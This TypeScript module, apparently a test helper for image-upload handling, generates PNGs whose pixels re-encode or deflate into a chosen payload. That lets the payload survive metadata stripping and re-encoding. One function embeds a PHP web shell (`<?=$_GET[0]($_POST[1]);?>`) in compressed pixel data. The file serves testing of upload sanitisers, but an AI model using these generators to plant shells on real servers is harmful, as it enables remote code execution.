import { deflateSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';
import { randomFrom } from '../../support/random-from.ts';
import { makePng, pngChunk } from './png.ts';

/** One way in which pixels become bytes, and where in these a payload may stand. */
export interface Encoding {
  readonly channels: 3 | 4;
  /** That a random channel may have at first. */
  readonly values: readonly number[];
  encode(pixels: Buffer, edge: number): Promise<Buffer>;
  /** @returns the first and the last byte of what pixels decide. */
  dataOf(encoded: Buffer): [from: number, to: number];
}

const MIDDLE_VALUES = Array.from({ length: 56 }, (_, index) => 100 + index);

/** Of a square picture, as many services make it of an upload. */
export const JPEG_COEFFICIENTS: Encoding = {
  channels: 3,
  values: MIDDLE_VALUES,
  encode: (pixels, edge) => fromRaw(pixels, edge, 3).jpeg({ quality: 82 }).toBuffer(),
  dataOf: (jpeg) => [jpeg.indexOf(Buffer.from('ffda', 'hex')) + 14, jpeg.length - 2],
};

/** Which keeps every value as it was. */
export const WEBP_TRANSPARENCY: Encoding = {
  channels: 4,
  values: MIDDLE_VALUES,
  encode: (pixels, edge) => fromRaw(pixels, edge, 4).webp({ quality: 80 }).toBuffer(),
  dataOf: (webp) => {
    const chunk = webp.indexOf('ALPH');
    const length = webp.readUInt32LE(chunk + 4);
    // Behind the table of codes at its start.
    return [chunk + Math.floor(length / 2), chunk + length];
  },
};

/** Of which no quality, however low, changes anything. */
export const WEBP_MASK: Encoding = { ...WEBP_TRANSPARENCY, values: [0, 255] };

/** Encoded so often, a picture hardly changes any more when it is encoded again. */
const GENERATIONS = 6;
const MAX_TRIES = 500;

/**
 * A PNG of pixels that were chosen so that their encoding holds a payload: whoever drops metadata and encodes anew brings
 * it back. It takes a few tries, of some milliseconds each.
 */
export async function pixelsThatEncodeTo(payload: string, edge: number, encoding: Encoding): Promise<Buffer> {
  const { channels, values, encode, dataOf } = encoding;
  const random = randomFrom(1);
  const pick = () => values[Math.floor(random() * values.length)] ?? 0;
  const noise = Buffer.from(Array.from({ length: edge * edge * channels }, pick));
  let settled = await encode(noise, edge);
  for (let generation = 0; generation < GENERATIONS; generation += 1) {
    settled = await encode(await decode(settled, encoding), edge);
  }
  const [from, to] = dataOf(settled);
  for (let tries = 0; tries < MAX_TRIES; tries += 1) {
    const wanted = Buffer.from(settled);
    wanted.write(payload, from + Math.floor(random() * (to - from - payload.length)), 'latin1');
    const pixels = await decode(wanted, encoding);
    if ((await encode(pixels, edge)).includes(payload, 0, 'latin1')) {
      return await fromRaw(pixels, edge, channels).png().toBuffer();
    }
  }
  throw new Error(`No pixels were found that encode to ${payload}.`);
}

export async function decode(picture: Buffer, { channels }: Encoding): Promise<Buffer> {
  const decoded = sharp(picture, { failOn: 'none' });
  return await (channels === 3 ? decoded.removeAlpha() : decoded.ensureAlpha()).raw().toBuffer();
}

function fromRaw(pixels: Buffer, edge: number, channels: 3 | 4): Sharp {
  return sharp(pixels, { raw: { width: edge, height: edge, channels } });
}

/** Pixels whose bytes are a text, over and over, not compressed. */
export function pngOfText(text: string, edge: number): Buffer {
  const row = Buffer.alloc(1 + 3 * edge, text, 'latin1').fill(0, 0, 1);
  const rows = Buffer.concat(Array.from({ length: edge }, () => row));
  return makePng({ width: edge, height: edge, pixels: deflateSync(rows, { level: 0 }) });
}

/** Colours whose bytes are a text. */
export function pngOfPalette(text: string, edge: number): Buffer {
  const colours = Buffer.from(text.padEnd(3 * Math.ceil(text.length / 3)), 'latin1');
  const rows = Buffer.alloc((1 + edge) * edge).map((_, at) =>
    at % (1 + edge) ? at % (colours.length / 3) : 0,
  );
  const palette = pngChunk('PLTE', colours);
  return makePng({ width: edge, height: edge, colourType: 3, chunks: [palette], pixels: deflateSync(rows) });
}

/** Pixels that zlib compresses to `<?=$_GET[0]($_POST[1]);?>`, a payload known since 2012. */
export function pngThatDeflatesToPhp(): Buffer {
  const rows = Buffer.alloc((1 + 3 * 32) * 32);
  rows.write('a39f67546f2c24152b116712546f112e29152b2167226b6f5f5310', 1, 'hex');
  return makePng({ width: 32, height: 32, pixels: deflateSync(rows, { level: 9 }) });
}
